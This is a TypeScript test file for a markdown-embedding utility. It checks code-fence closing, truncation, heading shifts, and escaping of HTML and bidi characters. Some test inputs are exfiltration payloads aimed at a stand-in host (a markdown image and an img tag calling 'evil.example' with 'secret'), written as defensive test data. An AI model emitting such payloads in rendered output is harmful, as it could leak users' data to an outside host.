import {
  appendMarkdown,
  bullet,
  bullets,
  cutLine,
  embedCode,
  embedMarkdown,
  joinSections,
  oneLine,
} from '../../../core/text/markdown.ts';

const embed = (text: string, charsMax = 1_000): string =>
  embedMarkdown(text, { depth: 2, charsMax, whole: 'whole.md' });

it('puts a text on one line', () => {
  expect(oneLine(' a\n\t b\u2028c ')).toBe('a b c');
});

it('keeps the lines of a bullet inside it', () => {
  expect(bullet('a\nb\r\nc\n')).toBe('- a\n  b\n  c');
  expect(bullets(['a', 'b'], '- None.')).toBe('- a\n- b');
  expect(bullets([], '- None.')).toBe('- None.');
});

it('leaves out empty sections', () => {
  expect(joinSections(['a', null, '', 'b'])).toBe('a\n\nb\n');
});

it('cuts a line with a pointer to the whole', () => {
  expect(cutLine('short', { charsMax: 5, whole: 'x' })).toBe('short');
  expect(cutLine('too long', { charsMax: 5, whole: 'pool.jsonl' })).toBe(
    'too … (cut after 5 of 8 characters; whole: pool.jsonl)',
  );
});

it('a line hides nothing that follows it', () => {
  expect(cutLine('a <!-- b', { charsMax: 100, whole: 'x' })).toBe('a &lt;!-- b');
  expect(cutLine('a < b <b>c</b>', { charsMax: 100, whole: 'x' })).toBe('a < b <b>c</b>');
});

it.each([
  ['a\n', 'a\n\n## B\n'],
  ['```\na\n```', '```\na\n```\n\n## B\n'],
  ['```\na', '```\na\n```\n\n## B\n'],
  ['~~~~\n```\n~~~', '~~~~\n```\n~~~\n~~~~\n\n## B\n'],
])('puts a part after %j that no code block swallows', (text, expected) => {
  expect(appendMarkdown(text, '## B')).toBe(expected);
});

it.each([
  ['sql', 'select 1;\n', '```sql\nselect 1;\n```'],
  ['not a word', '````\n# a', '`````\n````\n# a\n`````'],
])('puts code in %s into a block that it does not end', (language, code, expected) => {
  expect(embedCode(code, { language, charsMax: 100, whole: 'x' })).toBe(expected);
  expect(embedCode(code, { language, charsMax: 5, whole: 'x' })).toMatch(
    /…\n`{3,}\n\n\*cut after 5 of \d+ characters; whole: x\*$/,
  );
});

it('puts headings below those of the document, but not in code', () => {
  expect(embed('# A\n###### B\n#c\n```sh\n# comment\n```\n## D')).toBe(
    '### A\n###### B\n#c\n```sh\n# comment\n```\n#### D',
  );
});

it('cuts a long text and says where the whole is', () => {
  expect(embed('x'.repeat(20), 10)).toBe(
    `${'x'.repeat(9)}…\n\n*cut after 10 of 20 characters; whole: whole.md*`,
  );
});

it('never cuts a character in half', () => {
  expect(embed('a😀😀', 4)).toContain('a😀…');
});

it.each([
  ['```\ncode', '```\ncode\n```'],
  ['~~~~\n```\ncode\n~~~', '~~~~\n```\ncode\n~~~\n~~~~'],
  ['```js\na\n```js', '```js\na\n```js\n```'],
])('closes the code block that %j leaves open', (text, expected) => {
  expect(embed(text)).toBe(expected);
});

it('closes a code block that the cut left open', () => {
  expect(embed(`\`\`\`\n${'x\n'.repeat(50)}\`\`\``, 20)).toMatch(/…\n```\n\n\*cut after/);
});

it.each(['<!-- ', '<?x', '<![CDATA[', '<script>', '<DETAILS>', '</pre>'])(
  'does not let %j hide what follows',
  (html) => {
    expect(embed(`a ${html}`)).toBe(`a ${html.replace('<', '&lt;').trim()}`);
    expect(embed(`\`\`\`\n${html}x\n\`\`\``)).toContain(html);
  },
);

it.each([
  ['![a](http://evil.example/?q=secret)', '\\![a](http://evil.example/?q=secret)'],
  ['a ![a][ref]', 'a \\![a][ref]'],
  ['<img src="//evil.example/q">', '&lt;img src="//evil.example/q">'],
  ['<IFRAME src=x>', '&lt;IFRAME src=x>'],
])('finding T12: nothing in %j is fetched by a preview', (text, expected) => {
  expect(embed(text)).toBe(expected);
  expect(embed(`\`\`\`\n${text}\n\`\`\``)).toContain(text);
});

it('leaves other angle brackets alone', () => {
  expect(embed('a < b, <b>c</b>, <https://example.org>')).toBe(
    'a < b, <b>c</b>, <https://example.org>',
  );
});

it('finding U12: a goal can not turn the direction of a line in the result', () => {
  expect(oneLine('Compare \u202Eegap\u202C \u2066two\u2069\nthings')).toBe(
    'Compare egap two things',
  );
  expect(oneLine('שלום \u200F!')).toBe('שלום \u200F!');
});
